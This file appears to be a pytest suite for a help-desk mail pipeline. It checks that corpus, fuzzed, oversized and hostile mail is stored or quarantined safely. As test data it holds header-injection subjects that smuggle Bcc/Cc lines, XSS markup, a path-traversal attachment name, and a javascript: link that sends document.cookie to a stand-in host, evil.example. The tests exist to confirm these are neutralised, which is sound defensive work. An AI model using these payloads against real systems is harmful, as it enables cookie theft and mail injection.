"""Hostile and odd mail through the whole pipeline and the real database: nothing lost, nothing injected.

- CPython's own email test corpus, every mail file of it, when it ships with this Python.
- Fuzzed mail (hypothesis): applied or quarantined, never an exception, never lost.
- Limits and hostile input end to end: header injection through the subject,
  oversized mail, charsets Python does not know, NUL bytes, HTML.
"""

from __future__ import annotations

import email
import email.policy
import importlib.util
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from mailbot.db.models import MessageRow, Outbox, Quarantine
from mailbot.outbound.outbox import OutboxSender
from tests.support.desk import DeskBase
from tests.support.mail import CLIENT, make_mail
from tests.support.runners import cli_json

pytestmark = pytest.mark.servers

APPLIED = {"created", "appended", "duplicate", "ignored", "bounce"}


def _cpython_corpus() -> tuple[Path | None, str]:
    spec = importlib.util.find_spec("test")
    if spec is None or not spec.submodule_search_locations:
        return None, "this Python ships without its test package (Lib/test)"
    data = Path(next(iter(spec.submodule_search_locations))) / "test_email" / "data"
    if not data.is_dir():
        return None, f"this Python's test package has no email test corpus ({data} is missing)"
    if not list(data.glob("msg_*.txt")):
        return None, f"{data} holds no msg_*.txt mail files"
    return data, ""


CORPUS, CORPUS_MISSING = _cpython_corpus()


class Desk(DeskBase):
    def take(self, raw: bytes, source: str = "test"):
        return self.pipeline.process(raw, source=source)

    def send(self) -> list[tuple[bytes, email.message.EmailMessage]]:
        OutboxSender(self.settings, self.app.sessions).send_due()
        files = sorted(self.settings.outbox_dir.glob("*.eml"))
        return [(p.read_bytes(), email.message_from_bytes(p.read_bytes(), policy=email.policy.default)) for p in files]

    def stored(self, outcome, raw: bytes) -> bool:
        """Whether the mail behind ``outcome`` is in the database (applied, or held in quarantine)."""
        if outcome.action == "quarantined":
            where = Quarantine.message_id == outcome.message_id if outcome.message_id else Quarantine.raw == raw
            return bool(self.scalar(select(func.count()).select_from(Quarantine).where(where)))
        return bool(
            self.scalar(
                select(func.count())
                .select_from(MessageRow)
                .where(MessageRow.direction == "in", MessageRow.message_id == outcome.message_id)
            )
        )


@pytest.fixture
def desk(make_settings, db_url):
    # A 10 MB limit per attachment (the default is 25 MB), so that an 11 MB part is dropped.
    d = Desk(make_settings(db_url=db_url, mailbot={"max_attachment_size": 10 * 1024 * 1024}))
    yield d
    d.close()


# -- CPython's email test corpus --------------------------------------------------


@pytest.mark.skipif(CORPUS is None, reason=f"CPython email corpus not available: {CORPUS_MISSING}")
def test_cpython_email_corpus_is_applied_or_quarantined(desk):
    files = sorted(CORPUS.glob("msg_*.txt"))
    outcomes, problems = {}, []
    for path in files:
        raw = path.read_bytes()
        try:
            outcome = desk.take(raw, source=f"corpus:{path.name}")
        except Exception as exc:  # the pipeline may raise only TemporaryFailure, and the database is up
            problems.append(f"{path.name}: raised {type(exc).__name__}: {exc}")
            continue
        outcomes[path.name] = outcome
        if outcome.action not in APPLIED | {"quarantined"}:
            problems.append(f"{path.name}: unexpected outcome {outcome}")
        elif not desk.stored(outcome, raw):
            problems.append(f"{path.name}: {outcome.action} but not in the database")
        elif outcome.action == "quarantined" and not outcome.detail.startswith("unparseable"):
            problems.append(f"{path.name}: could not be applied: {outcome.detail}")
    assert not problems, "\n".join(problems)
    assert len(outcomes) == len(files) >= 40
    # Most of it is ordinary mail; what is quarantined is what has no header at all.
    assert sum(o.action == "created" for o in outcomes.values()) > len(files) // 2
    held = desk.scalar(select(func.count()).select_from(Quarantine))
    assert held == sum(o.action == "quarantined" for o in outcomes.values())


# -- fuzzing through the pipeline -------------------------------------------------------


def _fixed(raw: bytes) -> bytes:
    """make_mail() stamps the current time: fix it, so the examples are the same on every run."""
    return re.sub(rb"^Date: .*$", b"Date: Mon, 02 Mar 2026 10:00:00 -0600", raw, count=1, flags=re.M)


def _seeds() -> list[bytes]:
    seeds = [
        _fixed(make_mail(message_id="<fz0@cliente.com.mx>")),
        _fixed(
            make_mail(
                subject="Re: [IMAGEN TI #IMG-000001] seguimiento",
                in_reply_to="<fz0@cliente.com.mx>",
                message_id="<fz1@cliente.com.mx>",
            )
        ),
        _fixed(
            make_mail(
                subject="Fuera de la oficina",
                headers={"Auto-Submitted": "auto-replied"},
                message_id="<fz5@cliente.com.mx>",
            )
        ),
        (
            b"From: =?iso-8859-1?Q?Mar=EDa?= <maria@cliente.com.mx>\r\nTo: soporte@imagenti.mx\r\n"
            b"Subject: =?unknown-8bit?Q?Configuraci=F3n?=\r\nMessage-ID: <fz2@cliente.com.mx>\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/alternative; boundary=A\r\n\r\n--A\r\nContent-Type: text/plain; charset=x-user-defined\r\n\r\n"
            b"\x93Hola\x94\r\n--A\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p onclick=x()>Hola</p><script>alert(1)</script>\r\n"
            b"--A--\r\n"
        ),
        (
            b"From: MAILER-DAEMON@mx.cliente.com.mx\r\nTo: soporte@imagenti.mx\r\nSubject: Undelivered\r\n"
            b"Message-ID: <fz3@mx>\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n\r\n"
            b"--R\r\nContent-Type: text/plain\r\n\r\nNo entregado.\r\n"
            b"--R\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\n"
            b"Final-Recipient: rfc822; x@cliente.com.mx\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
            b"--R\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <orig@imagenti.mx>\r\n\r\n--R--\r\n"
        ),
    ]
    seeds.append(
        make_mail(
            sender=CLIENT,
            subject="Adjuntos",
            body="Van los archivos.",
            date=False,
            message_id="<fz4@cliente.com.mx>",
            attachments=[("../factura.pdf", b"%PDF-1.4 " * 200, "application/pdf")],
        )
    )
    if CORPUS is not None:
        seeds += [p.read_bytes() for p in sorted(CORPUS.glob("msg_*.txt"))]
    return seeds


SEEDS = _seeds()
TOKENS = [
    b"\r\n",
    b"\r\n\r\n",
    b"=?",
    b"?=",
    b"--",
    b"\x00",
    b"\xff",
    b"=?utf-8?q?=0A?=",
    b"charset=",
    b"Message-ID: <fz1@cliente.com.mx>\r\n",
    b"In-Reply-To: <fz1@cliente.com.mx>\r\n",
    b"Subject: [IMAGEN TI #IMG-000001] x\r\n",
    b"Auto-Submitted: auto-replied\r\n",
    b"Return-Path: <>\r\n",
    b"Content-Type: multipart/report; report-type=delivery-status; boundary=R\r\n",
    b"boundary=",
]


@st.composite
def mutated(draw):
    raw = bytearray(draw(st.sampled_from(SEEDS)))
    for op, pos, data in draw(
        st.lists(
            st.tuples(
                st.integers(0, 2),
                st.integers(0, 1 << 20),
                st.one_of(st.binary(min_size=1, max_size=8), st.sampled_from(TOKENS)),
            ),
            max_size=8,
        )
    ):
        pos %= len(raw) + 1
        if op == 0:
            raw[pos : pos + len(data)] = data
        elif op == 1:
            raw[pos:pos] = data
        else:
            del raw[pos : pos + 4 * len(data)]
    return bytes(raw)


def test_fuzzed_mail_is_applied_or_quarantined_never_lost(desk):
    # Hypothesis reseeds the global `random` before every example: outbound Message-IDs must not
    # depend on it (they are uuid4), or two examples within 10 ms would collide and quarantine.
    outcomes = []

    @settings(
        max_examples=120,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(mutated())
    def take(raw):
        outcome = desk.take(raw)  # raises only TemporaryFailure, and the database is up
        assert outcome.action in APPLIED | {"quarantined"}, outcome
        assert desk.stored(outcome, raw), outcome
        if outcome.action == "quarantined":
            assert outcome.detail.startswith("unparseable: ParseError"), outcome.detail
        outcomes.append(outcome.action)

    take()
    assert "created" in outcomes


# -- limits and hostile input, end to end -----------------------------------------------

INJECTED_SUBJECTS = [
    "=?UTF-8?Q?x=0ABcc:_someone@example.com?=",
    "=?UTF-8?Q?x=0D=0ACc:_someone@example.com=0D=0A=0D=0Acuerpo?=",
    "=?UTF-8?B?eA0KQmNjOiBzb21lb25lQGV4YW1wbGUuY29t?=",  # "x\r\nBcc: someone@example.com"
]


@pytest.mark.parametrize("subject", INJECTED_SUBJECTS, ids=["q-lf", "q-crlf-body", "b-crlf"])
def test_an_encoded_line_break_in_the_subject_cannot_inject_into_the_acknowledgement(desk, subject):
    raw = (
        f"From: Juan <{CLIENT}>\r\nTo: soporte@imagenti.mx\r\nSubject: {subject}\r\n"
        "Message-ID: <inj@cliente.com.mx>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "Hola\r\n"
    ).encode()
    assert desk.take(raw).action == "created"
    [t] = desk.tickets()
    assert "\n" not in t["subject"] and "\r" not in t["subject"] and "someone@example.com" in t["subject"]
    [(data, ack)] = [(d, m) for d, m in desk.send() if m["X-Envelope-To"] == CLIENT]
    assert ack.get_all("Bcc") is None and ack.get_all("Cc") is None
    assert len(ack.get_all("Subject")) == 1 and len(ack.get_all("To")) == 1
    assert str(ack["To"]) == CLIENT
    assert "someone@example.com" in str(ack["Subject"])
    assert not re.search(rb"^(bcc|cc|cuerpo)\b", data, re.M | re.I)
    with desk.app.sessions() as s:
        assert all(CLIENT in r or r[0].endswith("@imagenti.mx") for r in s.scalars(select(Outbox.rcpt_to)))
        assert all("someone@example.com" not in r for r in s.scalars(select(Outbox.rcpt_to)))


def _with_attachment(size: int, *, name="respaldo.zip", message_id="<big@cliente.com.mx>") -> bytes:
    return make_mail(
        sender=f"Juan <{CLIENT}>",
        subject="Respaldo del servidor",
        message_id=message_id,
        date=False,
        body="Les mando el respaldo para revisión.",
        attachments=[(name, b"\x00\x01respaldo" * (size // 10), "application/zip")],
    )


@pytest.fixture(scope="module")
def eleven_mb_mail():
    return _with_attachment(11 * 1024 * 1024)


def test_oversized_attachment_is_dropped_and_the_mail_still_ticketed_with_a_note(desk, eleven_mb_mail):
    outcome = desk.take(eleven_mb_mail)
    assert outcome.action == "created"
    shown = cli_json("tickets", "show", outcome.ticket, config=desk.settings.source)
    [body] = [m["body"] for m in shown["messages"] if m["direction"] == "in"]
    assert body.startswith("Les mando el respaldo para revisión.")
    assert '[mailbot] attachment "respaldo.zip" (application/zip, 11.0 MB) dropped: larger than the 10.0 MB' in body
    with desk.app.sessions() as s:
        stored = s.scalar(select(MessageRow.raw).where(MessageRow.message_id == "<big@cliente.com.mx>"))
    assert len(stored) < 10_000  # the part is gone from the database, the note is in its place
    assert b"X-Mailbot-Dropped: yes" in stored
    assert [m for _, m in desk.send() if m["X-Envelope-To"] == CLIENT]  # acknowledged as usual
    assert desk.take(eleven_mb_mail).action == "duplicate"


def test_configured_size_limits_apply(make_settings, db_url):
    desk = Desk(make_settings(db_url=db_url, mailbot={"max_message_size": 150_000, "max_attachment_size": 50_000}))
    try:
        outcome = desk.take(_with_attachment(60_000, name="log.zip", message_id="<cfg1@cliente.com.mx>"))
        body = desk.show(outcome.ticket)["messages"][0]["body"]
        assert 'attachment "log.zip" (application/zip, 59 KB) dropped: larger than the 49 KB limit' in body
        outcome = desk.take(
            make_mail(
                sender=CLIENT,
                subject="Varios",
                body="Tres archivos.",
                message_id="<cfg2@cliente.com.mx>",
                date=False,
                attachments=[
                    (f"f{i}.bin", bytes([i]) * size, "application/octet-stream")
                    for i, size in enumerate((40_000, 45_000, 30_000))
                ],
            )
        )
        body = desk.show(outcome.ticket)["messages"][0]["body"]
        assert 'attachment "f1.bin"' in body and "larger than the 146 KB limit" in body
        assert 'attachment "f0.bin"' not in body and 'attachment "f2.bin"' not in body
    finally:
        desk.close()


def test_dropped_parts_are_an_event_on_the_ticket(desk, eleven_mb_mail):
    outcome = desk.take(eleven_mb_mail)
    shown = desk.show(outcome.ticket)
    [dropped] = [e for e in shown["events"] if e["kind"] == "parts_dropped"]
    assert dropped["data"]["size"] == len(eleven_mb_mail)
    assert dropped["data"]["notes"][0].startswith('attachment "respaldo.zip" (application/zip, 11.0 MB) dropped')


CHARSET_MAILS = [
    (
        b"Subject: =?unknown-8bit?Q?Configuraci=F3n_del_servidor?=\r\n"
        b"Content-Type: text/plain; charset=unknown-8bit\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        + "La configuración falló en el señor equipo".encode()
        + b"\r\n",
        "Configuración del servidor",
        "La configuración falló en el señor equipo",
    ),
    (
        b"Subject: =?x-user-defined?Q?=93Urgente=94_contrase=F1a?=\r\n"
        b"Content-Type: text/plain; charset=x-user-defined\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        + "“Olvidé” la contraseña – ayuda".encode("cp1252")
        + b"\r\n",
        "“Urgente” contraseña",
        "“Olvidé” la contraseña – ayuda",
    ),
    (
        b"Subject: " + "Año fiscal – cierre".encode("cp1252") + b"\r\n"
        b"Content-Type: text/plain; charset=us-ascii\r\n\r\n" + "Cierre del año".encode("latin-1") + b"\r\n",
        "Año fiscal – cierre",
        "Cierre del año",
    ),
    (
        b"Subject: Registro con NUL\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        b"linea\x00uno\r\nlinea dos\x1b[0m\r\n",
        "Registro con NUL",
        "lineauno linea dos[0m",
    ),
]


@pytest.mark.parametrize(
    "headers_body,subject,fragment",
    CHARSET_MAILS,
    ids=["unknown-8bit", "x-user-defined", "raw-8bit-header", "nul-bytes"],
)
def test_unknown_charsets_and_control_bytes_are_stored_readably(desk, headers_body, subject, fragment):
    raw = (
        b"From: Juan <juan.perez@cliente.com.mx>\r\nTo: soporte@imagenti.mx\r\n"
        b"Message-ID: <cs@cliente.com.mx>\r\nMIME-Version: 1.0\r\n"
    ) + headers_body
    outcome = desk.take(raw)
    assert outcome.action == "created", outcome
    shown = desk.show(outcome.ticket)
    assert shown["subject"] == subject
    assert fragment in " ".join(shown["messages"][0]["body"].split())


def test_hostile_html_is_never_stored_as_markup_or_script(desk):
    html = (
        "<html><head><style>body{display:none}</style><title>Factura</title></head><body>"
        "<p>El portal <b>no carga</b>.</p><img src=x onerror=alert(1)>"
        "<a href=\"javascript:fetch('//evil.example/'+document.cookie)\">ver</a>"
        "<script>document.location='//evil.example'</script></body></html>"
    )
    raw = make_mail(subject="Portal", message_id="<html@cliente.com.mx>")
    raw = raw.replace(b"Content-Type: text/plain", b"Content-Type: text/html")
    raw = raw.split(b"\n\n", 1)[0] + b"\n\n" + html.encode()
    raw = raw.replace(b"Content-Transfer-Encoding: 7bit", b"Content-Transfer-Encoding: 8bit")
    outcome = desk.take(raw)
    body = desk.show(outcome.ticket)["messages"][0]["body"]
    assert "El portal no carga." in " ".join(body.split())
    for bad in ("<", "alert", "evil.example", "display:none", "Factura"):
        assert bad not in body


def test_bytes_that_are_no_mail_are_quarantined_with_the_reason(desk):
    outcome = desk.take(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")
    assert outcome.action == "quarantined"
    assert outcome.detail.startswith("unparseable: ParseError: not a mail")
    with desk.app.sessions() as s:
        [held] = s.scalars(select(Quarantine)).all()
        assert held.raw.startswith(b"\x89PNG") and held.status == "held"
